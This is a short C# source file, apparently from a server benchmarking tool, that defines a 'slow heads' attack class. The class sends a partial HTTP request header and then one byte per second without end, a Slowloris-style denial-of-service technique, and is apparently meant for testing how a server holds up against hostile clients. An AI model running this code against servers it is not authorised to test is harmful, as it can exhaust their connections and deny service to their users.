namespace MssTools.Bench.Hostile.Attacks;

/// <summary>Sends the head of a request one byte a second, until the server has had enough.</summary>
internal sealed class SlowHeads(Target target) : HttpAttack(target)
{
    /// <inheritdoc/>
    public override string Name => "slow heads";

    /// <inheritdoc/>
    public override async Task RunAsync(AttackSocket socket, Random random)
    {
        await SendAsync(socket, "GET / HTTP/1.1\r\nHost: a\r\nX: ");
        Tally.AddRequests(1);
        while (true)
        {
            await SendAsync(socket, "y");
            await socket.RestAsync(1);
        }
    }
}
